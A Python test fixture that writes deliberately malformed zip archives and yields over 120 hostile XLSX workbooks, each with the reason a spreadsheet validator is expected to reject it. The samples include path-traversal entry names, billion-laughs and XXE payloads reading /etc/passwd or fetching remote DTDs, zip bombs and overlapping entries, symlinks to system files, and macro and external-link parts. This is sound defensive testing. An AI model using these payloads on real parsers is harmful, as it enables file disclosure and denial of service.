"""A zip writer that can lie, and more than 120 hostile workbooks made with it, each with the reason expected (2.27)."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace

import openpyxl

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET = "xl/worksheets/sheet1.xml"
DTD = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]>'


@dataclass(frozen=True)
class Entry:
    """One part to write; what is not None overrides what an honest writer would say."""

    name: bytes
    content: bytes
    method: int = 8
    flags: int = 0
    made_by: int = 20
    attributes: int = 0
    extra: bytes = b""
    local_extra: bytes = b""
    declared: int | None = None
    local_name: bytes | None = None
    local_declared: int | None = None
    local_flags: int | None = None
    local_method: int | None = None
    packed: bytes | None = None
    packed_size: int | None = None
    checksum: int | None = None
    disk: int = 0
    header: int | None = None
    descriptor: bool = False


@dataclass(frozen=True)
class Ending:
    """The end of the directory; what is not None overrides the truth."""

    count: int | None = None
    here: int | None = None
    size: int | None = None
    start: int | None = None
    comment: bytes = b""
    disk: int = 0
    before: bytes = b""
    between: bytes = b""
    after: bytes = b""


def deflated(content: bytes) -> bytes:
    """Pack as zip does."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


def write(entries: list[Entry], ending: Ending | None = None) -> bytes:
    """Write an archive as told, true or not."""
    ending = ending or Ending()
    out = io.BytesIO()
    out.write(ending.before)
    central = []
    for entry in entries:
        packed = entry.packed if entry.packed is not None else entry.content
        if entry.packed is None and entry.method == 8:
            packed = deflated(entry.content)
        true = (entry.checksum if entry.checksum is not None else zlib.crc32(entry.content), len(packed))
        size = entry.declared if entry.declared is not None else len(entry.content)
        packed_size = entry.packed_size if entry.packed_size is not None else true[1]
        header = out.tell() if entry.header is None else entry.header
        if entry.header is None:
            flags = entry.flags if entry.local_flags is None else entry.local_flags
            method = entry.method if entry.local_method is None else entry.local_method
            sizes = (true[0], packed_size, size if entry.local_declared is None else entry.local_declared)
            if entry.descriptor:
                flags, sizes = flags | 8, (0, 0, 0)
            name = entry.name if entry.local_name is None else entry.local_name
            out.write(
                struct.pack("<4s5H3L2H", b"PK\3\4", 20, flags, method, 0, 33, *sizes, len(name), len(entry.local_extra))
            )
            out.write(name + entry.local_extra + packed)
            if entry.descriptor:
                out.write(struct.pack("<4s3L", b"PK\7\x08", true[0], packed_size, size))
        flags = entry.flags | (8 if entry.descriptor else 0)
        central.append(
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\1\2",
                entry.made_by,
                20,
                flags,
                entry.method,
                0,
                33,
                true[0],
                packed_size,
                size,
                len(entry.name),
                len(entry.extra),
                0,
                entry.disk,
                0,
                entry.attributes,
                header,
            )
            + entry.name
            + entry.extra
        )
    start = out.tell()
    directory = b"".join(central) + ending.between
    out.write(directory)
    count = len(entries) if ending.count is None else ending.count
    out.write(
        struct.pack(
            "<4s4H2LH",
            b"PK\5\6",
            ending.disk,
            ending.disk,
            count if ending.here is None else ending.here,
            count,
            len(directory) if ending.size is None else ending.size,
            start if ending.start is None else ending.start,
            len(ending.comment),
        )
    )
    return out.getvalue() + ending.comment + ending.after


def plain_workbook(rows: list[list[object]] | None = None) -> bytes:
    """An ordinary workbook, as openpyxl writes it."""
    book = openpyxl.Workbook()
    for row in rows or [["Nom", "Prénom"], ["LEFÈVRE", "Zoé"]]:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def parts() -> list[Entry]:
    """The parts of the smallest ordinary workbook."""
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kind = 'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"'
    types = "http://schemas.openxmlformats.org/package/2006/content-types"
    sheet = '<row r="1"><c r="A1" t="inlineStr"><is><t>Nom</t></is></c></row>'
    target = f'<Relationship Id="r1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/>'
    book = '<sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets>'
    return [
        _part("[Content_Types].xml", f'<Types xmlns="{types}"><Override PartName="/xl/workbook.xml" {kind}/></Types>'),
        _part("_rels/.rels", f'<Relationships xmlns="{relations}"/>'),
        _part("xl/workbook.xml", f'<workbook xmlns="{MAIN}" xmlns:r="{office}">{book}</workbook>'),
        _part("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{relations}">{target}</Relationships>'),
        _part(SHEET, sheet_xml(sheet).decode()),
    ]


def _part(name: str, content: str) -> Entry:
    return Entry(name.encode(), content.encode())


def sheet_xml(rows: str, *, before: str = "") -> bytes:
    """The XML of a sheet that holds these rows."""
    return f'<worksheet xmlns="{MAIN}">{before}<sheetData>{rows}</sheetData></worksheet>'.encode()


def with_sheet(content: bytes, **changes: object) -> bytes:
    """The smallest workbook, with another sheet."""
    return write([*parts()[:-1], replace(Entry(SHEET.encode(), content), **changes)])  # type: ignore[arg-type]


def with_part(name: str | bytes, content: bytes = b"<x/>", **changes: object) -> bytes:
    """The smallest workbook, with a part more."""
    raw = name.encode() if isinstance(name, str) else name
    return write([*parts(), replace(Entry(raw, content), **changes)])  # type: ignore[arg-type]


def with_ending(**changes: object) -> bytes:
    """The smallest workbook, with an end that lies."""
    return write(parts(), replace(Ending(), **changes))  # type: ignore[arg-type]


def with_changes(**changes: object) -> bytes:
    """The smallest workbook, whose sheet's entry lies."""
    made = parts()
    return write([*made[:-1], replace(made[-1], **changes)])  # type: ignore[arg-type]


def overlapping(count: int) -> bytes:
    """One packed kernel quoted by many entries, as in the overlap bombs."""
    kernel = b"\0" * 900_000
    first = Entry(b"xl/media/image0.png", kernel)
    honest = write([*parts(), first])
    header = honest.index(b"xl/media/image0.png") - 30
    more = [
        Entry(f"xl/media/image{n}.png".encode(), kernel, header=header, packed=deflated(kernel))
        for n in range(1, count)
    ]
    return write([*parts(), first, *more])


PATHS = (
    "../evil.xml",
    "xl/../../etc/passwd",
    "/etc/passwd",
    "//server/share.xml",
    "C:/evil.xml",
    "C:\\evil.xml",
    "..\\evil.xml",
    "xl\\worksheets\\sheet2.xml",
    "./xl/styles.xml",
    "xl//styles.xml",
    "xl/./styles.xml",
    "xl/worksheets/..",
    "file:evil.xml",
    "..",
)
MACROS = (
    "xl/vbaProject.bin",
    "xl/vbaProjectSignature.bin",
    "xl/VBAPROJECT.BIN",
    "xl/macrosheets/sheet1.xml",
    "xl/dialogsheets/sheet1.xml",
    "customUI/customUI.xml",
    "customUI14.xml",
    "xl/vbaData.xml",
)
EXTERNAL = (
    "xl/externalLinks/externalLink1.xml",
    "xl/externalLinks/_rels/externalLink1.xml.rels",
    "xl/queryTables/queryTable1.xml",
    "xl/connections.xml",
)
EMBEDDED = (
    "xl/embeddings/oleObject1.bin",
    "xl/embeddings/Microsoft_Word_Document.docx",
    "xl/model/item.data",
    "xl/embeddings/package1.bin",
)
ACTIVE = (
    "xl/activeX/activeX1.xml",
    "xl/activeX/activeX1.bin",
    "xl/ctrlProps/ctrlProp1.xml",
    "xl/webextensions/webextension1.xml",
)
UNKNOWN = (
    "evil.exe",
    "xl/evil.js",
    "index.html",
    "word/document.xml",
    "ppt/presentation.xml",
    "content.xml",
    "mimetype",
    "META-INF/manifest.xml",
    "xl/worksheets/sheet1.bin",
    "xl/workbook.bin",
    "docProps/evil.xml",
    "xl/styles.xml.bak",
    "xl/worksheets/sheet1.xml.exe",
    "xl/theme/theme1.png",
    "xl/media/evil.svg",
    "customXml/evil.bin",
)
BAD_NAMES = (
    b"xl/sty\x00les.xml",
    b"xl/\xe9.xml",
    "xl/é.xml".encode(),
    b"xl/\x1b[0m.xml",
    b"xl/a\nb.xml",
    b"",
    "xl/\u202elmx.xml".encode(),
)
LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(f'<!ENTITY lol{n} "{("&lol" + str(n - 1 if n > 1 else "") + ";") * 10}">'.encode() for n in range(1, 10))
    + b"]>"
)
DTDS = {
    "laughs": LAUGHS,
    "quadratic": b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 50_000 + b'">]>',
    "xxe file": b'<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "xxe http": b'<!DOCTYPE x [<!ENTITY x SYSTEM "http://192.0.2.1/x">]>',
    "parameter": b'<!DOCTYPE x [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]>',
    "external subset": b'<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">',
    "empty": b"<!DOCTYPE x>",
    "after a comment": b"<!-- -->" * 5_000 + b"<!DOCTYPE x>",
    "after spaces": b" " * 300_000 + b"<!DOCTYPE x>",
}
WITH_DTD = (
    SHEET,
    "xl/workbook.xml",
    "[Content_Types].xml",
    "_rels/.rels",
    "xl/_rels/workbook.xml.rels",
)


def hostile() -> Iterator[tuple[str, Callable[[], bytes], str]]:
    """Every hostile archive: a name, how to make it, the reason expected."""
    for path in PATHS:
        yield f"path {path}", lambda p=path: with_part(p), "path"
    for group, reason in (
        (MACROS, "macros"),
        (EXTERNAL, "external_links"),
        (EMBEDDED, "embedded_objects"),
        (ACTIVE, "active_x"),
    ):
        for name in group:
            yield f"part {name}", lambda n=name: with_part(n), reason
    for name in UNKNOWN:
        yield f"part {name}", lambda n=name: with_part(n), "part_unknown"
    for raw in BAD_NAMES:
        yield f"name {raw!r}", lambda r=raw: with_part(r), "part_name"
    for name, declaration in DTDS.items():
        yield f"dtd {name}", lambda d=declaration: with_sheet(d + sheet_xml("")), "dtd"
    for target in WITH_DTD:
        yield f"dtd in {target}", lambda t=target: _with_dtd_in(t), "dtd"
    yield from _entries()
    yield from _endings()
    yield from _sizes()
    yield from _encodings()
    yield from _not_workbooks()


def _with_dtd_in(target: str) -> bytes:
    return write([replace(p, content=DTD + p.content) if p.name == target.encode() else p for p in parts()])


def _entries() -> Iterator[tuple[str, Callable[[], bytes], str]]:
    yield "encrypted", lambda: with_changes(flags=1), "encrypted"
    yield "strongly encrypted", lambda: with_changes(flags=0x41), "encrypted"
    yield "masked headers", lambda: with_changes(flags=0x2000), "encrypted"
    for method in (1, 6, 9, 12, 14, 93, 95, 98, 99):
        yield f"method {method}", lambda m=method: with_changes(method=m), "method"
    yield (
        "symlink",
        lambda: with_part("xl/styles.xml", b"/etc/passwd", made_by=0x314, attributes=0o120777 << 16),
        "link",
    )
    yield "symlink sheet", lambda: with_changes(made_by=0x31E, attributes=0o120000 << 16), "link"
    yield "zip64 extra", lambda: with_changes(extra=struct.pack("<2HQ", 1, 8, 5)), "zip64"
    yield "zip64 local extra", lambda: with_changes(local_extra=struct.pack("<2HQ", 1, 8, 5)), "zip64"
    yield "zip64 size", lambda: with_changes(declared=0xFFFFFFFF), "zip64"
    yield "zip64 packed size", lambda: with_changes(packed_size=0xFFFFFFFF), "zip64"
    yield "zip64 offset", lambda: with_changes(header=0xFFFFFFFF), "zip64"
    yield "duplicate", lambda: with_part(SHEET), "duplicate"
    yield "duplicate by case", lambda: with_part("XL/Worksheets/SHEET1.xml"), "duplicate"
    yield "duplicate types", lambda: with_part("[content_types].XML"), "duplicate"
    yield "local name differs", lambda: with_changes(local_name=b"xl/worksheets/sheet2.xml"), "header_mismatch"
    yield "local name is a path", lambda: with_changes(local_name=b"../../../../../etc/cron"), "header_mismatch"
    yield "local size differs", lambda: with_changes(local_declared=7), "header_mismatch"
    yield "local method differs", lambda: with_changes(local_method=0), "header_mismatch"
    yield "local flags differ", lambda: with_changes(local_flags=1), "header_mismatch"
    yield "header outside", lambda: with_changes(header=10_000_000), "header_mismatch"
    yield "header in the middle", lambda: with_changes(header=11), "header_mismatch"
    yield "packed size too large", lambda: with_changes(packed_size=100_000), "overlap"
    yield "another disk", lambda: with_changes(disk=2), "directory"
    yield "overlap of 2", lambda: overlapping(2), "header_mismatch"
    yield "overlap of 50", lambda: overlapping(50), "header_mismatch"
    yield "overlap by offset", _sharing_bytes, "overlap"


def _sharing_bytes() -> bytes:
    """Two entries whose true headers overlap: the second stands inside the first one's stored bytes."""
    inner = write([Entry(b"xl/styles.xml", b"<x/>", method=0)])[: 30 + len(b"xl/styles.xml") + 4]
    made = parts()
    honest = write([*made, Entry(b"xl/media/image1.png", inner, method=0)])
    place = honest.index(b"xl/media/image1.png") + len(b"xl/media/image1.png")
    return write(
        [
            *made,
            Entry(b"xl/media/image1.png", inner, method=0),
            Entry(b"xl/styles.xml", b"<x/>", method=0, header=place),
        ]
    )


def _endings() -> Iterator[tuple[str, Callable[[], bytes], str]]:
    yield "comment", lambda: with_ending(comment=b"hello"), "trailing_data"
    yield "comment with a second end", lambda: with_ending(comment=write(parts())), "directory"
    yield "appended script", lambda: with_ending(after=b"<script>alert(1)</script>"), "trailing_data"
    yield "appended zip", lambda: write(parts()) + write(parts()), "directory"
    yield "prepended script", lambda: with_ending(before=b"#!/bin/sh\n"), "not_a_zip"
    yield "prepended picture", lambda: with_ending(before=b"\x89PNG\r\n"), "not_a_zip"
    yield "count too small", lambda: with_ending(count=3), "directory"
    yield "count too large", lambda: with_ending(count=9), "directory"
    yield "counts disagree", lambda: with_ending(here=2), "directory"
    yield "size too small", lambda: with_ending(size=46), "directory"
    yield "start moved", lambda: with_ending(start=0), "directory"
    yield "other disk", lambda: with_ending(disk=1), "directory"
    yield "zip64 count", lambda: with_ending(count=0xFFFF), "zip64"
    yield "zip64 start", lambda: with_ending(start=0xFFFFFFFF), "zip64"
    yield "zip64 locator", lambda: with_ending(between=b"PK\6\7" + b"\0" * 16), "zip64"
    yield "junk in the directory", lambda: with_ending(between=b"\0" * 64), "directory"
    yield (
        "200 parts more",
        lambda: write([*parts(), *(Entry(f"xl/media/i{n}.png".encode(), b"x") for n in range(200))]),
        "too_many_parts",
    )
    yield (
        "50,000 parts",
        lambda: write([Entry(f"{n}".encode(), b"", method=0) for n in range(50_000)]),
        "too_many_parts",
    )
    yield "cut at half", lambda: plain_workbook()[:2_000], "damaged"
    yield "cut by one", lambda: plain_workbook()[:-1], "trailing_data"
    yield "end only", lambda: b"PK\5\6" + b"\0" * 18, "not_a_zip"


def _sizes() -> Iterator[tuple[str, Callable[[], bytes], str]]:
    bomb = b"<x/>" + b" " * 60_000_000
    yield "60 MB in one part", lambda: with_sheet(bomb), "ratio"
    yield (
        "two of 60 MB",
        lambda: write([*parts(), Entry(b"xl/styles.xml", bomb), Entry(b"xl/metadata.xml", bomb)]),
        "unpacked_too_large",
    )
    yield "300 MB cell declared", lambda: with_changes(declared=300_000_000), "unpacked_too_large"
    yield (
        "many at the limit",
        lambda: write([*parts(), *(Entry(f"xl/media/i{n}.png".encode(), b"\0" * 1_040_000) for n in range(60))]),
        "ratio",
    )
    yield "lies below", lambda: with_sheet(b" " * 5_000_000, declared=1_000), "size_lie"
    yield "lies above", lambda: with_sheet(sheet_xml(""), declared=90_000), "size_lie"
    yield "lies by one", lambda: with_sheet(sheet_xml(""), declared=len(sheet_xml("")) - 1), "size_lie"
    yield "stored and lies", lambda: with_changes(method=0, declared=5), "size_lie"
    yield "wrong checksum", lambda: with_changes(checksum=1), "damaged"
    yield "not deflated", lambda: with_changes(packed=b"\xff" * 50), "damaged"
    yield (
        "cut stream",
        lambda: with_changes(packed=deflated(sheet_xml(" " * 9_999))[:-5], content=sheet_xml(" " * 9_999)),
        "damaged",
    )
    yield (
        "bytes after the stream",
        lambda: with_changes(packed=deflated(sheet_xml("")) + b"more", content=sheet_xml("")),
        "damaged",
    )
    yield "11 MB", lambda: b"PK\3\4" + b"\0" * (11 * 1024 * 1024), "too_large"


def _encodings() -> Iterator[tuple[str, Callable[[], bytes], str]]:
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32"):
        yield f"encoded in {encoding}", lambda e=encoding: with_sheet(sheet_xml("").decode().encode(e)), "encoding"
    for encoding in ("cp037", "latin-1", "utf-7", "cp1252", "EBCDIC-CP-US", "x-unknown", "UTF-16"):
        declared = f'<?xml version="1.0" encoding="{encoding}"?>'.encode()
        yield f"declares {encoding}", lambda d=declared: with_sheet(d + sheet_xml("")), "encoding"
    macro = b'<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
    yield "xlsm as xlsx", lambda: write([replace(parts()[0], content=macro), *parts()[1:]]), "macros"
    outside = b'<Relationships><Relationship Id="r1" Target="http://192.0.2.1/" TargetMode="External"/></Relationships>'
    yield (
        "workbook from outside",
        lambda: write([*parts()[:3], replace(parts()[3], content=outside), parts()[4]]),
        "external_links",
    )
    yield (
        "package from outside",
        lambda: write([parts()[0], replace(parts()[1], content=outside), *parts()[2:]]),
        "external_links",
    )


def _not_workbooks() -> Iterator[tuple[str, Callable[[], bytes], str]]:
    yield "empty archive", lambda: write([]), "not_a_zip"
    yield "no types", lambda: write(parts()[1:]), "not_a_workbook"
    yield "no workbook", lambda: write([*parts()[:2], *parts()[3:]]), "not_a_workbook"
    yield "a zip of texts", lambda: write([Entry(b"a.txt", b"a"), Entry(b"b.csv", b"b")]), "not_a_workbook"
    yield (
        "an odt",
        lambda: write([Entry(b"mimetype", b"application/vnd.oasis", method=0), Entry(b"content.xml", b"<x/>")]),
        "not_a_workbook",
    )
    yield "a docx", lambda: write([parts()[0], Entry(b"word/document.xml", b"<x/>")]), "not_a_workbook"
    yield "four bytes", lambda: b"PK\3\4", "not_a_zip"
    yield "a folder with content", lambda: with_part("xl/", b"x"), "part_unknown"
